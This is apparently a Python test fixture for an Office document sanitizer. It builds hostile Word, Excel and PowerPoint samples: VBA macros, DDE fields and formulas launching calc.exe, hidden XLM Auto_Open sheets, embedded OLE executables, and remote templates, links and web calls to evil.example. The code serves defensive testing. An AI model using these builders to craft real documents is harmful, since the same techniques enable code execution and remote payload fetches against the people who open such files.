"""Hostile Office files: by python-docx, openpyxl, python-pptx and xlwt, then poisoned here."""

# ruff: noqa: E501 - XML is quoted in one piece
from __future__ import annotations

import io
import struct
import zipfile

import docx
import olefile
import openpyxl
import pptx
import xlwt
from PIL import Image

from shared.sanitize.compound import Storage, write
from tests.unit.sanitize.sanitize_sample import WORDS, Sample
from tests.unit.sanitize.sanitize_vba import project, vba_project_bin

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def saved(thing):
    out = io.BytesIO()
    thing.save(out)
    return out.getvalue()


def png():
    return saved_image("PNG")


def saved_image(kind, **settings):
    out = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").resize((40, 30)).save(out, kind, **settings)
    return out.getvalue()


def document(word=WORDS):
    made = docx.Document()
    made.add_paragraph(word)
    made.add_picture(io.BytesIO(png()))
    return saved(made)


def workbook(word=WORDS):
    book = openpyxl.Workbook()
    book.active["A1"] = word
    book.active["A2"] = 5
    return saved(book)


def slides(word=WORDS):
    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[5])
    slide.shapes.title.text = word
    return saved(show)


class Poison:
    """A package being changed."""

    def __init__(self, data):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def part(self, name, data, kind):
        self.parts[name] = data if isinstance(data, bytes) else data.encode()
        entry = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
        return self.replace("[Content_Types].xml", "</Types>", entry)

    def relate(self, source, number, kind, target, *, outside=False):
        folder, _, name = source.rpartition("/")
        rels = f"{folder}/_rels/{name}.rels" if source else "_rels/.rels"
        mode = ' TargetMode="External"' if outside else ""
        line = f'<Relationship Id="{number}" Type="{kind}" Target="{target}"{mode}/>'
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        self.parts.setdefault(rels, empty)
        return self.replace(rels, "</Relationships>", line + "</Relationships>")

    def replace(self, name, old, new):
        text = self.parts[name].decode()
        assert old in text, (name, old)
        self.parts[name] = text.replace(old, new, 1).encode()
        return self

    def retype(self, old, new):
        return self.replace("[Content_Types].xml", old, new)

    def data(self):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", 8) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return out.getvalue()


def in_body(xml, word=WORDS):
    return Poison(document(word)).replace("word/document.xml", "<w:sectPr", f"{xml}<w:sectPr")


def field(*instructions, result="結果"):
    runs = "".join(f"<w:r><w:instrText>{i}</w:instrText></w:r>" for i in instructions)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}"
        f"<w:r><w:t>{result}</w:t></w:r>{mark.format('end')}</w:p>"
    )


def with_vba(data, folder, main, plain, macro):
    poison = Poison(data).retype(plain, macro)
    poison.part(
        f"{folder}/vbaProject.bin", vba_project_bin(), "application/vnd.ms-office.vbaProject"
    )
    return poison.relate(main, "rIdV", f"{MS}/vbaProject", "vbaProject.bin")


def docm():
    return with_vba(
        document(),
        "word",
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def xlsm():
    return with_vba(
        workbook(),
        "xl",
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )


def pptm():
    return with_vba(
        slides(),
        "ppt",
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    )


def native():
    """An OLE object that holds a program."""
    payload = b"MZ" + b"\0" * 60
    body = b"\2\0a.exe\0C:\\a.exe\0\0\0\3\0" + struct.pack("<I", 9) + b"C:\\a.exe\0"
    body += struct.pack("<I", len(payload)) + payload
    return write(Storage(children={"\1Ole10Native": struct.pack("<I", len(body)) + body}))


OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
OLE_XML = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed"'
    f' ProgID="Package" r:id="rIdO" xmlns:r="{REL}"/></w:object></w:r></w:p>'
)
ACTIVEX = '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{0}"/>'
LINK = f'<w:p><w:hyperlink r:id="rIdL" xmlns:r="{REL}"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>'


def docx_ole():
    poison = in_body(OLE_XML).part("word/embeddings/oleObject1.bin", native(), OLE_TYPE)
    return poison.relate(
        "word/document.xml", "rIdO", f"{REL}/oleObject", "embeddings/oleObject1.bin"
    )


def docx_activex():
    xml = f'<w:p><w:r><w:object><w:control r:id="rIdA" w:name="B" xmlns:r="{REL}"/></w:object></w:r></w:p>'
    poison = in_body(xml)
    poison.part("word/activeX/activeX1.xml", ACTIVEX, "application/vnd.ms-office.activeX+xml")
    return poison.relate("word/document.xml", "rIdA", f"{REL}/control", "activeX/activeX1.xml")


def docx_template():
    poison = Poison(document())
    poison.replace(
        "word/settings.xml", "<w:zoom", f'<w:attachedTemplate r:id="rIdT" xmlns:r="{REL}"/><w:zoom'
    )
    target = "http://evil.example/t.dotm"
    return poison.relate(
        "word/settings.xml", "rIdT", f"{REL}/attachedTemplate", target, outside=True
    )


def docx_outside(kind, xml, target="http://evil.example/x"):
    return in_body(xml).relate("word/document.xml", "rIdX", f"{REL}/{kind}", target, outside=True)


def custom_ui(data):
    ui = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Run"/>'
    poison = Poison(data).part("customUI/customUI.xml", ui, "application/xml")
    return poison.relate(
        "",
        "rIdU",
        f"{MS}/ui/extensibility",
        "customUI/customUI.xml",
    )


def xlsx_cell(xml):
    return Poison(workbook()).replace(
        "xl/worksheets/sheet1.xml", "</sheetData>", f"<row r='9'>{xml}</row></sheetData>"
    )


def xlsx_dde():
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0"/></ddeItems>'
        "</ddeLink></externalLink>"
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    poison = xlsx_cell("<c r='A9'><f>[1]!A0</f><v>7</v></c>").part(
        "xl/externalLinks/externalLink1.xml", link, kind
    )
    refer = f'</sheets><externalReferences><externalReference r:id="rIdE" xmlns:r="{REL}"/></externalReferences>'
    poison.replace("xl/workbook.xml", "</sheets>", refer)
    return poison.relate(
        "xl/workbook.xml", "rIdE", f"{REL}/externalLink", "externalLinks/externalLink1.xml"
    )


def xlsx_macro_sheet():
    sheet = (
        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
        '<c r="A1"><f>EXEC("calc.exe")</f><v>0</v></c></row></sheetData></xm:macrosheet>'
    )
    poison = Poison(workbook()).part(
        "xl/macrosheets/sheet1.xml", sheet, "application/vnd.ms-excel.macrosheet+xml"
    )
    poison.replace(
        "xl/workbook.xml",
        "</sheets>",
        f'<sheet name="M" sheetId="9" state="hidden" r:id="rIdM" xmlns:r="{REL}"/></sheets>',
    )
    poison.replace(
        "xl/workbook.xml",
        "</sheets>",
        '</sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName></definedNames>',
    )
    return poison.relate("xl/workbook.xml", "rIdM", f"{MS}/xlMacrosheet", "macrosheets/sheet1.xml")


def xlsx_connection():
    text = '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="c" type="4"><webPr url="http://evil.example/"/></connection></connections>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    return (
        Poison(workbook())
        .part("xl/connections.xml", text, kind)
        .relate("xl/workbook.xml", "rIdC", f"{REL}/connections", "connections.xml")
    )


def xlsx_embedded():
    poison = Poison(workbook()).part("xl/embeddings/oleObject1.bin", native(), OLE_TYPE)
    poison.replace(
        "xl/worksheets/sheet1.xml",
        "</worksheet>",
        f'<oleObjects><oleObject progId="Package" shapeId="1" r:id="rIdO" xmlns:r="{REL}"/></oleObjects></worksheet>',
    )
    return poison.relate(
        "xl/worksheets/sheet1.xml", "rIdO", f"{REL}/oleObject", "../embeddings/oleObject1.bin"
    )


SLIDE = "ppt/slides/slide1.xml"


def pptx_action(action):
    click = f'<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="rIdP" action="{action}" xmlns:r="{REL}"/>'
    poison = Poison(slides())
    text = poison.parts[SLIDE].decode()
    start = text.index("<p:cNvPr", text.index("<p:sp>"))
    end = text.index("/>", start)
    poison.parts[SLIDE] = (text[:end] + ">" + click + "</p:cNvPr>" + text[end + 2 :]).encode()
    return poison.relate(
        SLIDE, "rIdP", f"{REL}/hyperlink", "file:///c:/windows/system32/calc.exe", outside=True
    )


def pptx_ole():
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>'
        '<p:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        f'<p:oleObj progId="Package" r:id="rIdO" xmlns:r="{REL}"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame></p:spTree>'
    )
    poison = Poison(slides()).replace(SLIDE, "</p:spTree>", frame)
    poison.part("ppt/embeddings/oleObject1.bin", native(), OLE_TYPE)
    return poison.relate(SLIDE, "rIdO", f"{REL}/oleObject", "../embeddings/oleObject1.bin")


def pptx_media():
    return Poison(slides()).relate(
        SLIDE, "rIdW", f"{REL}/video", "http://evil.example/v.mp4", outside=True
    )


# Legacy


def word_97(text):
    """A document of one piece of UTF-16 text ([MS-DOC] 2.4.1)."""
    body = bytearray(2048) + text.encode("utf-16-le")
    plc = struct.pack("<II", 0, len(text)) + struct.pack("<HIH", 0, 2048, 0)
    clx = b"\2" + struct.pack("<I", len(plc)) + plc
    fib = struct.pack("<HH", 0xA5EC, 0xC1) + b"\0" * 6 + struct.pack("<H", 0x200)
    fib = fib.ljust(32, b"\0") + struct.pack("<H", 14) + b"\0" * 28
    fib += struct.pack("<H", 22) + struct.pack("<22i", *[0] * 3, len(text), *[0] * 18)
    fib += struct.pack("<H", 93) + b"\0" * (33 * 8) + struct.pack("<II", 0, len(clx))
    body[: len(fib)] = fib
    return {"WordDocument": bytes(body), "1Table": clx}


def doc(text=WORDS + "\r", **more):
    return write(Storage(children=word_97(text) | more))


def book_stream(fill=lambda _: None):
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("台帳")
    sheet.write(0, 0, WORDS)
    fill(sheet)
    return olefile.OleFileIO(io.BytesIO(saved(book))).openstream("Workbook").read()


def xls(stream, **more):
    return write(Storage(children={"Workbook": stream, **more}))


def biff(kind, body):
    return struct.pack("<HH", kind, len(body)) + body


def atom(kind, body, version=0):
    return struct.pack("<HHI", version, kind, len(body)) + body


def ppt(*atoms):
    text = atom(0x0FA0, WORDS.encode("utf-16-le"))
    inner = atom(0x0FF0, text + b"".join(atoms), 15)
    return write(
        Storage(children={"PowerPoint Document": atom(1000, inner, 15), "Current User": b"x" * 20})
    )


def legacy():
    macros = Storage(children=project())
    yield Sample("vba.doc", doc(Macros=macros), "macro")
    yield Sample(
        "dde.doc", doc(f'{WORDS}\r\x13 DDEAUTO c:\\\\cmd.exe "/c calc" \x14結果\x15\r'), "dde"
    )
    yield Sample(
        "includetext.doc",
        doc(f'{WORDS}\r\x13 INCLUDETEXT "http://evil.example" \x14結果\x15\r'),
        "field",
    )
    yield Sample(
        "object.doc",
        doc(ObjectPool=Storage(children={"_1": Storage(children={"\1Ole10Native": b"x" * 90})})),
        "ole_object",
        held=True,
    )
    yield Sample(
        "template.doc",
        write(
            Storage(
                children=word_97(WORDS)
                | {"0Table": "http://evil.example/t.dot".encode("utf-16-le")}
            )
        ),
        "external_template",
        held=True,
    )
    yield Sample("vba.xls", xls(book_stream(), _VBA_PROJECT_CUR=macros), "macro")
    sheet = biff(0x85, struct.pack("<IBB", 0, 0, 1) + b"\1\0M")
    yield Sample(
        "xlm.xls",
        xls(biff(0x809, b"\0\6\5\0" + b"\0" * 12) + sheet + biff(0x0A, b"")),
        "macro_sheet",
        held=True,
    )
    book = book_stream()
    yield Sample(
        "dde.xls",
        xls(book[:20] + biff(0x1AE, struct.pack("<HH", 0, 5) + b"\0cmd\3/") + book[20:]),
        "dde",
        held=True,
    )
    yield Sample(
        "object.xls",
        xls(book, MBD0001=Storage(children={"\1Ole10Native": b"x" * 90})),
        "ole_object",
        held=True,
    )
    yield Sample("object.ppt", ppt(atom(0x1011, native())), "ole_object", held=True)
    info = atom(0x03FF, atom(0x0400, struct.pack("<III", 1, 1, 2), 2), 15)
    yield Sample("vba.ppt", ppt(info), "macro", held=True)
    yield Sample(
        "program.ppt", ppt(atom(0x0FF3, b"\0" * 8 + b"\2" + b"\0" * 7)), "macro_binding", held=True
    )


def modern():
    yield Sample("vba.docm", docm().data(), "macro")
    yield Sample("vba-named.docx", docm().data(), "macro")
    yield Sample("ole.docx", docx_ole().data(), "ole_object")
    yield Sample("activex.docx", docx_activex().data(), "activex")
    yield Sample("template.docx", docx_template().data(), "external_template")
    yield Sample(
        "dde.docx", in_body(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc.exe" ')).data(), "dde"
    )
    yield Sample("dde-split.docx", in_body(field(" DD", "EAU", 'TO cmd "/c calc" ')).data(), "dde")
    inner = field(" QUOTE 68 68 69 65 85 84 79 ").removeprefix("<w:p>").removesuffix("</w:p>")
    nested = field("x").replace("<w:r><w:instrText>x</w:instrText></w:r>", inner)
    yield Sample("dde-quote.docx", in_body(nested).data(), "field")
    simple = "<w:p><w:fldSimple w:instr=' DDE cmd \"/c calc\" '><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>"
    yield Sample("dde-simple.docx", in_body(simple).data(), "dde")
    yield Sample(
        "includepicture.docx",
        in_body(field(' INCLUDEPICTURE "http://evil.example/x.png" \\d ')).data(),
        "field",
    )
    yield Sample("frame.docx", docx_outside("frame", "").data(), "external_link")
    sub = f'<w:p><w:subDoc r:id="rIdX" xmlns:r="{REL}"/></w:p>'
    yield Sample("subdocument.docx", docx_outside("subDocument", sub).data(), "external_link")
    yield Sample(
        "link.docx",
        in_body(LINK)
        .relate(
            "word/document.xml", "rIdL", f"{REL}/hyperlink", "http://evil.example/a", outside=True
        )
        .data(),
        "link_defanged",
    )
    yield Sample(
        "link-file.docx",
        in_body(LINK)
        .relate(
            "word/document.xml",
            "rIdL",
            f"{REL}/hyperlink",
            "file://evil.example/a.exe",
            outside=True,
        )
        .data(),
        "link_removed",
    )
    yield Sample(
        "link-msdt.docx",
        in_body(LINK)
        .relate(
            "word/document.xml",
            "rIdL",
            f"{REL}/oleObject",
            "mhtml:http://evil.example/x!x-usc",
            outside=True,
        )
        .data(),
        "ole_object",
    )
    yield Sample("customui.docx", custom_ui(document()).data(), "custom_ui")
    chunk = f'<w:altChunk r:id="rIdC" xmlns:r="{REL}"/>'
    poison = (
        in_body(chunk)
        .part("word/a.html", "<script>1</script>", "text/html")
        .relate("word/document.xml", "rIdC", f"{REL}/aFChunk", "a.html")
    )
    yield Sample("altchunk.docx", poison.data(), "", held=True)
    yield Sample(
        "doctype.docx",
        Poison(document())
        .replace("word/document.xml", "<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document')
        .data(),
        "",
        held=True,
    )
    yield Sample("vba.xlsm", xlsm().data(), "macro")
    yield Sample("dde.xlsx", xlsx_dde().data(), "external_link")
    yield Sample("xlm.xlsm", xlsx_macro_sheet().data(), "macro_sheet")
    yield Sample("connection.xlsx", xlsx_connection().data(), "external_link")
    yield Sample("ole.xlsx", xlsx_embedded().data(), "ole_object")
    yield Sample(
        "webservice.xlsx",
        xlsx_cell("<c r='A9'><f>WEBSERVICE(\"http://evil.example\")</f><v>7</v></c>").data(),
        "formula",
    )
    yield Sample(
        "dde-cell.xlsx",
        xlsx_cell("<c r='A9'><f>cmd|'/c calc'!A0</f><v>7</v></c>").data(),
        "formula",
    )
    yield Sample("customui.xlsx", custom_ui(workbook()).data(), "custom_ui")
    yield Sample("vba.pptm", pptm().data(), "macro")
    yield Sample("ole.pptx", pptx_ole().data(), "ole_object")
    yield Sample(
        "macro-action.pptx", pptx_action("ppaction://macro?name=Run").data(), "macro_binding"
    )
    yield Sample("program-action.pptx", pptx_action("ppaction://program").data(), "link_removed")
    yield Sample("video.pptx", pptx_media().data(), "external_link")


def samples():
    return [*modern(), *legacy()]
